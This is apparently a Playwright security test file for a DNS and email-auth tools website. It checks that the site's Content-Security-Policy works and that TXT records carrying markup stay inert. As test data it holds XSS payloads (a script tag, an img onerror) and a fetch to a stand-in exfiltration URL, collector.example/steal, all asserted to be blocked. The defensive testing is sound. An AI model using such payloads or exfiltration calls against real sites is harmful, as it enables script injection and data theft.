// Security of what the browser runs and reaches:
//  - DNS text with markup (xss.test) is shown as text by every tool and runs nothing;
//  - the Content-Security-Policy (src/integrations/csp.mjs) allows scripts from the
//    site only and DNS questions only to the presets and the configured resolver:
//    anything else is blocked inside the page, before a request exists.
// The sweep over every page that records every request (nothing may leave for
// another host) runs in a11y.spec.ts, together with the axe sweep, so that each
// page is visited once.
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { stack, toolUrl } from './stack';

interface Violation {
  directive: string;
  blocked: string;
}

/** Records CSP violations and page errors from the very start of every document. */
async function watch(page: Page) {
  const errors: string[] = [];
  page.on('pageerror', (err) => errors.push(err.message));
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: { directive: string; blocked: string }[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
    });
  });
  return {
    errors,
    violations: () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations),
  };
}

const ran = (page: Page) => page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);

test.describe('DNS text with markup is shown literally and runs nothing', () => {
  // The zone's TXT records: SPF with a <script>, DMARC with an <img onerror>, DKIM "<b>not a key</b>".
  const SCRIPT = '<script>window.__xss=1</script>';
  const IMG = '<img src=x onerror="window.__xss=1">';
  const BOLD = '<b>not a key</b>';

  /** Nothing from the zone became an element anywhere on the page. */
  async function expectInert(page: Page, w: Awaited<ReturnType<typeof watch>>) {
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    await expect(page.locator('script', { hasText: '__xss' })).toHaveCount(0);
    await expect(page.locator('b', { hasText: 'not a key' })).toHaveCount(0);
    expect(await ran(page)).toBeUndefined();
    expect(w.errors).toEqual([]);
    // Nothing was even attempted: the markup never reached the DOM as markup.
    expect(await w.violations()).toEqual([]);
  }

  test('checker', async ({ page }) => {
    const w = await watch(page);
    await page.goto(toolUrl('/tools/checker/', { domain: 'xss.test' }));
    const spf = page.locator('[data-record="spf"]');
    await expect(spf).not.toHaveAttribute('data-status', 'pending', { timeout: 15_000 });
    await expect(page.locator('[data-record="dkim"]')).not.toHaveAttribute('data-status', 'pending');
    await expect(spf).toContainText(SCRIPT);
    await expect(page.locator('[data-record="dmarc"]')).toContainText(IMG);
    await expectInert(page, w);
  });

  test('SPF inspector', async ({ page }) => {
    const w = await watch(page);
    await page.goto(toolUrl('/tools/spf/', { domain: 'xss.test' }));
    const result = page.locator('.mg-spf-result');
    await expect(result).toBeVisible({ timeout: 15_000 });
    await expect(result).toContainText(SCRIPT);
    await expectInert(page, w);
  });

  test('SPF tool IP test', async ({ page }) => {
    const w = await watch(page);
    await page.goto(toolUrl('/en/tools/spf/', { domain: 'xss.test', ip: '192.0.2.25' }));
    // The markup is not a term SPF knows: a syntax error, quoted in the reason and shown in the trail's record.
    const result = page.locator('[data-spf-result="permerror"]');
    await expect(result).toBeVisible({ timeout: 15_000 });
    await expect(result.locator('[data-spf-problem="syntax"]')).toContainText('<script>');
    await expect(result.locator('[data-spf-trail-record="xss.test"]')).toContainText(SCRIPT);
    await expectInert(page, w);
  });

  for (const [name, text] of [
    ['xss.test', SCRIPT],
    ['_dmarc.xss.test', 'onerror'],
    ['default._domainkey.xss.test', BOLD],
  ] as const) {
    test(`lookup tool: ${name} TXT`, async ({ page }) => {
      const w = await watch(page);
      await page.goto(toolUrl('/tools/lookup/', { name, type: 'TXT' }));
      const result = page.locator('[data-rcode]');
      await expect(result).toHaveAttribute('data-rcode', 'NOERROR', { timeout: 15_000 });
      await expect(result.locator('[data-section="answer"]')).toContainText(text);
      await expectInert(page, w);
    });
  }

  test('resolvers side by side', async ({ page }) => {
    const w = await watch(page);
    await page.goto(toolUrl('/tools/propagation/', { name: '_dmarc.xss.test', type: 'TXT' }));
    await expect(page.locator('[data-resolver="custom"]')).toContainText('onerror', { timeout: 15_000 });
    await expectInert(page, w);
  });
});

test.describe('Content-Security-Policy', () => {
  test('every page carries the static policy first in <head>, then the narrowing connect-src policy', async ({
    page,
  }) => {
    await page.goto(toolUrl('/en/tools/lookup/', {}));
    const policies = await page.evaluate(() =>
      [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => ({
        content: m.getAttribute('content') ?? '',
        connect: m.getAttribute('data-mg-connect'),
        beforeScripts: [...document.scripts].every(
          (s) =>
            m.compareDocumentPosition(s) & Node.DOCUMENT_POSITION_FOLLOWING ||
            s.textContent?.includes('data-mg-connect'),
        ),
      })),
    );
    expect(policies).toHaveLength(2);
    const [first, second] = policies;
    expect(first?.beforeScripts).toBe(true);
    expect(first?.content).toMatch(/script-src 'self' 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')+;/);
    const scriptSrc = (first?.content ?? '').split(/;\s*/).find((d) => d.startsWith('script-src ')) ?? '';
    const sources = scriptSrc.split(' ').slice(1);
    // Only the site, hashes, and WebAssembly for the search index: no inline code, no eval, no other origin.
    expect(sources.filter((t) => !t.startsWith("'sha256-"))).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    const origin = new URL(stack.resolver).origin;
    expect(second?.content).toBe(
      `connect-src 'self' https://dns.alidns.com https://doh.pub https://dns.google https://cloudflare-dns.com ${origin}`,
    );
    expect(second?.connect?.split(' ')).toContain(origin);
  });

  test('a fetch to an unlisted origin is blocked in the page, while the configured resolver and presets are allowed', async ({
    page,
    offsite,
  }) => {
    const w = await watch(page);
    await page.goto(toolUrl('/tools/lookup/', {}));
    const results = await page.evaluate(
      async ({ resolver, otherLocal }) => {
        const attempt = async (url: string) => {
          try {
            const res = await fetch(url, { headers: { accept: 'application/dns-message' } });
            return `status ${res.status}`;
          } catch (err) {
            return `failed: ${(err as Error).name}`;
          }
        };
        // "complete.test MX" as an RFC 8484 GET parameter.
        const q = '?dns=AAABAAABAAAAAAAACGNvbXBsZXRlBHRlc3QAAA8AAQ';
        return {
          unlisted: await attempt('https://collector.example/steal?d=1'),
          otherLocal: await attempt(`${otherLocal}${q}`),
          resolver: await attempt(`${resolver}${q}`),
          preset: await attempt(`https://dns.google/dns-query${q}`),
        };
      },
      { resolver: stack.resolver, otherLocal: stack.fault('garbage') },
    );
    // Blocked by the policy: no request was made at all (it never reached the test's network filter).
    expect(results.unlisted).toBe('failed: TypeError');
    expect(results.otherLocal).toBe('failed: TypeError');
    const violations = await w.violations();
    expect(violations).toEqual(
      expect.arrayContaining([
        { directive: 'connect-src', blocked: 'https://collector.example/steal?d=1' },
        expect.objectContaining({
          directive: 'connect-src',
          blocked: expect.stringContaining(new URL(stack.fault('garbage')).origin),
        }),
      ]),
    );
    expect(offsite.some((u) => u.includes('collector.example'))).toBe(false);
    // The configured resolver answers.
    expect(results.resolver).toBe('status 200');
    // A preset is allowed by the policy: the request was made (and stopped by the test's filter, not by CSP).
    expect(violations.some((v) => v.blocked.includes('dns.google'))).toBe(false);
    expect(offsite.some((u) => u.startsWith('https://dns.google/dns-query'))).toBe(true);
  });

  test("the DMARC report viewer’s Web Worker starts under the policy (workers fall back to script-src 'self')", async ({
    page,
  }) => {
    const w = await watch(page);
    const workers: string[] = [];
    page.on('worker', (worker) => workers.push(new URL(worker.url()).pathname));
    await page.goto(toolUrl('/en/tools/dmarc-reports/', {}));
    await expect(page.locator('astro-island[ssr]')).toHaveCount(0);
    await page.locator('input[type=file]').setInputFiles('tests/fixtures/dmarc/qq.xml');
    // The report was read by the worker, which the page loaded from the site itself.
    await expect(page.locator('[data-total-messages="11"]')).toBeVisible({ timeout: 15_000 });
    expect(workers).toHaveLength(1);
    expect(workers[0]).toMatch(/^\/_astro\/worker-[^/]+\.js$/);
    // Its PTR questions went to the configured resolver: nothing was blocked.
    await expect(page.locator('[data-ptr="pending"]')).toHaveCount(0, { timeout: 15_000 });
    expect(await w.violations()).toEqual([]);
    expect(w.errors).toEqual([]);
  });

  test('scripts not from the site do not run: injected inline code, a foreign script, eval', async ({ page }) => {
    const w = await watch(page);
    await page.goto('/en/tools/checker/');
    const outcome = await page.evaluate(async () => {
      const win = window as unknown as { __inline?: number; __foreign?: number };
      const inline = document.createElement('script');
      inline.textContent = 'window.__inline = 1';
      document.head.append(inline);
      const foreign = document.createElement('script');
      foreign.src = 'https://cdn.example/x.js';
      const loaded = new Promise<string>((resolve) => {
        foreign.onload = () => resolve('loaded');
        foreign.onerror = () => resolve('error');
      });
      document.head.append(foreign);
      // eval from a later task (code run directly by the test harness is exempt from the policy).
      const evalResult = await new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(String((0, eval)('1 + 1')));
          } catch (err) {
            resolve((err as Error).name);
          }
        }, 0);
      });
      return { inline: win.__inline, foreign: await loaded, evalResult };
    });
    expect(outcome.inline).toBeUndefined();
    expect(outcome.foreign).toBe('error');
    expect(outcome.evalResult).toBe('EvalError');
    const directives = (await w.violations()).map((v) => v.directive);
    expect(directives).toEqual(expect.arrayContaining(['script-src-elem', 'script-src']));
  });

  test('a custom resolver saved in the picker becomes reachable (the page reloads to allow it)', async ({ page }) => {
    await page.goto('/en/tools/lookup/');
    const summary = page.locator('details.mg-options summary', { hasText: 'Resolvers' });
    await expect(summary.locator('xpath=ancestor::astro-island[1]')).not.toHaveAttribute('ssr', /.*/);
    await summary.click();
    await page.getByLabel('Custom DoH address (optional)').fill(stack.resolver);
    await Promise.all([
      page.waitForEvent('framenavigated'),
      page.getByRole('button', { name: 'Use this address' }).click(),
    ]);
    await page.waitForLoadState('load');
    const allowed = await page.locator('meta[data-mg-connect]').getAttribute('data-mg-connect');
    expect(allowed?.split(' ')).toContain(new URL(stack.resolver).origin);
    await expect(page.locator('[data-resolver-notice="saved"]')).toContainText(stack.resolver);
    const name = page.getByLabel('Name or IP address');
    await expect(name.locator('xpath=ancestor::astro-island[1]')).not.toHaveAttribute('ssr', /.*/);
    await name.fill('complete.test');
    await page.getByLabel('Record type').selectOption('MX');
    await name.press('Enter');
    const result = page.locator('[data-rcode]');
    await expect(result).toHaveAttribute('data-rcode', 'NOERROR', { timeout: 15_000 });
    await expect(result.locator('[data-resolver]')).toHaveAttribute('data-resolver', 'custom');
  });
});
